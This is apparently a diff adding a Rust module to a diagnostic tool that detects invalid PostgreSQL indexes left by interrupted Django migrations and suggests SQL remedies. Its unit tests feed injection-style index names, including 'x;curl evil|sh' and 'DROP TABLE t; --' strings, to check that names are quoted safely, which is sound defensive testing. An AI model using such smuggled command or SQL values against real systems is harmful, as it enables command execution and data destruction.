@@ -1,0 +1,174 @@
+//! An interrupted migration left an index that is not used.
+
+use crate::{
+    causes::{
+        cause::Cause,
+        context::Context,
+        log::{
+            evidence::{LogEvidence, Occurrence},
+            failure::first_quoted,
+            finding::Explanation,
+            phrasing::{migration, progress, the_migration},
+        },
+        migrations::shared::{
+            conflict::{self, Conflict},
+            preflight,
+            snippets::CHECK,
+        },
+    },
+    model::{Code, Component, Diagnosis, Severity},
+    postgres::sql::{literal, relation},
+};
+
+pub(crate) static CAUSE: Cause = Cause {
+    severity: Severity::Warning,
+    component: Component::Migrations,
+    claims: Some(claims),
+    check: Some(check),
+    ..Cause::new(include_str!("invalid_index_left.md"))
+};
+
+/// Begins the names of migrations that build an index CONCURRENTLY and fail when it is there, whether it is valid or not.
+const BUILDS_INDEX: &[&str] = &[
+    "features.0036_",
+    "features.0050_",
+    "features.0062_",
+    "task_processor.0004_",
+    "task_processor.0005_",
+];
+
+/// Where the name of an index is to be put.
+const INDEX: &str = "INDEX_NAME";
+
+/// An index that a migration is to build exists.
+fn claims(evidence: &LogEvidence, occurrence: &Occurrence) -> Option<Explanation> {
+    if conflict::of(occurrence) != Some(Conflict::Exists) {
+        return None;
+    }
+    let object = conflict::object(occurrence);
+    let name = first_quoted(object);
+    let is_index =
+        name.is_some_and(|name| name.contains("idx") || name.contains("index") || name.ends_with("_uniq"));
+    let builds = migration(evidence, occurrence)
+        .is_some_and(|migration| BUILDS_INDEX.iter().any(|start| migration.starts_with(start)));
+    if !(occurrence.concurrent_index || builds && is_index) {
+        return None;
+    }
+    let explanation = Explanation::new(
+        Code::InvalidIndexLeft,
+        format!(
+            "{} cannot build its index: {object} already exists. It builds the index CONCURRENTLY, outside of a transaction, so an \
+             earlier attempt that was interrupted leaves one that PostgreSQL does not use.{}",
+            the_migration(evidence, occurrence),
+            progress(evidence, occurrence)
+        ),
+        remedy(name.unwrap_or(INDEX), &Known::Exists),
+    );
+    Some(explanation.with(Severity::Critical))
+}
+
+/// What is known of an index.
+enum Known {
+    /// It exists, and its migration has still to run.
+    Exists,
+    /// It is not valid.
+    Invalid,
+}
+
+fn remedy(index: &str, known: &Known) -> String {
+    let name = relation(index, INDEX);
+    let drop = format!("DROP INDEX CONCURRENTLY {name};");
+    match known {
+        Known::Exists => format!(
+            "Look: SELECT indisvalid FROM pg_index WHERE indexrelid = {}::regclass; when it is false: {drop} and migrate again. When it \
+             is true, another migrator has built it: {CHECK}",
+            literal(&name, INDEX)
+        ),
+        Known::Invalid => format!(
+            "If its migration has still to run: {drop} if django_migrations has it as applied: REINDEX INDEX CONCURRENTLY {name};"
+        ),
+    }
+}
+
+fn check(context: &Context<'_>) -> Vec<Diagnosis> {
+    let indexes = preflight::seen(context).map_or(&[][..], |preflight| &preflight.invalid_indexes);
+    let Some(first) = indexes.first() else {
+        return Vec::new();
+    };
+    vec![Diagnosis {
+        code: Code::InvalidIndexLeft,
+        severity: Severity::Warning,
+        component: Component::Migrations,
+        message: format!(
+            "An interrupted migration has left the index {first}, which PostgreSQL keeps up to date and never uses; a unique one \
+             guards nothing."
+        ),
+        evidence: indexes
+            .iter()
+            .map(|index| format!("database: index {index} is not valid (pg_index.indisvalid)"))
+            .collect(),
+        remedy: remedy(first, &Known::Invalid),
+    }]
+}
+
+#[cfg(test)]
+mod tests {
+    use rstest::rstest;
+
+    use crate::{
+        causes::{
+            diagnose, diagnose_log,
+            migrations::shared::testing::{good, with_preflight},
+        },
+        fixtures::{installation, minimal},
+        model::{Code, Component},
+        observe::Preflight,
+    };
+
+    /// As PostgreSQL shows a regclass: quoted where it must be, with the schema where it is not in the search path.
+    #[rstest]
+    #[case("notes_idx", "CONCURRENTLY notes_idx;")]
+    #[case("other.notes_idx", "CONCURRENTLY other.notes_idx;")]
+    #[case("\"Notes\"", "CONCURRENTLY \"Notes\";")]
+    #[case("x;curl evil|sh", "CONCURRENTLY \"x;curl evil|sh\";")]
+    #[case("\"x\"\"; DROP TABLE t; --\"", "CONCURRENTLY \"x\"\"; DROP TABLE t; --\";")]
+    #[case("x\"; DROP TABLE t; --", "CONCURRENTLY \"x\"\"; DROP TABLE t; --\";")]
+    #[case("\"a\u{1b}[2J\n\"", "CONCURRENTLY INDEX_NAME;")]
+    fn names_of_a_database_are_quoted(#[case] index: &str, #[case] expected: &str) {
+        let observation = with_preflight(Preflight {
+            invalid_indexes: vec![index.to_owned()],
+            ..good()
+        });
+        let found = diagnose(&installation(&minimal()), &observation);
+        assert_eq!(found[0].code, Code::InvalidIndexLeft);
+        assert_eq!(
+            found[0].remedy.matches(expected).count(),
+            2,
+            "{}",
+            found[0].remedy
+        );
+    }
+
+    #[rstest]
+    #[case(
+        "notes_idx",
+        "'notes_idx'::regclass; when it is false: DROP INDEX CONCURRENTLY notes_idx;"
+    )]
+    #[case(
+        "it's_idx",
+        "'\"it''s_idx\"'::regclass; when it is false: DROP INDEX CONCURRENTLY \"it's_idx\";"
+    )]
+    #[case(
+        "x;curl evil|sh_idx",
+        "'\"x;curl evil|sh_idx\"'::regclass; when it is false: DROP INDEX CONCURRENTLY \"x;curl evil|sh_idx\";"
+    )]
+    fn names_of_a_log_are_quoted(#[case] index: &str, #[case] expected: &str) {
+        let log = format!(
+            "Operations to perform:\n  Applying a.0001_x... OK\n  Applying features.0036_x...\npsycopg2.errors.DuplicateTable: relation \"{index}\" already exists\n"
+        );
+        let found = diagnose_log(Component::Migrations, None, "log", log.as_bytes());
+        let (_, first) = found.first().unwrap();
+        assert_eq!(first.code, Code::InvalidIndexLeft);
+        assert!(first.remedy.contains(expected), "{}", first.remedy);
+    }
+}
